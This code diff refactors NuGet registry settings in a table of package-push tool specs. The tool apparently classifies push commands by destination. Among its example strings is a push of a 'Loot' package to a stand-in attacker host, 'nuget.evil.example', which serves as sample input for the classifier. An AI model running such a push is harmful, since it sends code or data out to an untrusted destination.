@@ -45,6 +45,14 @@ const NUGET_EXE_VALUE_FLAGS = [
   '-Verbosity',
 ];
 
+/** Where both NuGet clients push: nuget.org, or a source; CI builds push to folder feeds (local disk). */
+const NUGET_REGISTRY = {
+  destination: 'fixed',
+  fixedDestination: 'api.nuget.org',
+  localDestinations: true,
+  requiresClassedDestination: false,
+} as const;
+
 export const packageTools: readonly PushToolSpec[] = [
   {
     tool: 'npm',
@@ -180,12 +188,8 @@ export const packageTools: readonly PushToolSpec[] = [
       kind: 'subcommand',
       commands: [{ words: ['nuget', 'push'], remote: { positional: 0 }, excludeFlags: ['--help', '-h', '-?'] }],
     },
-    destination: 'fixed',
-    fixedDestination: 'api.nuget.org',
+    ...NUGET_REGISTRY,
     sourceNameFlags: ['-s', '--source'],
-    // CI builds push to folder feeds (`--source ./artifacts`): local disk.
-    localDestinations: true,
-    requiresClassedDestination: false,
     examples: {
       push: [
         'nuget push bin/Loot.1.0.0.nupkg --api-key k --source https://api.nuget.org/v3/index.json',
@@ -214,11 +218,8 @@ export const packageTools: readonly PushToolSpec[] = [
       kind: 'subcommand',
       commands: [{ words: ['push'], remote: { positional: 0 }, excludeFlags: ['-Help', '-?'] }],
     },
-    destination: 'fixed',
-    fixedDestination: 'api.nuget.org',
+    ...NUGET_REGISTRY,
     sourceNameFlags: ['-Source'],
-    localDestinations: true,
-    requiresClassedDestination: false,
     examples: {
       push: [
         'push Loot.1.0.0.nupkg -Source https://nuget.evil.example/v3/index.json',
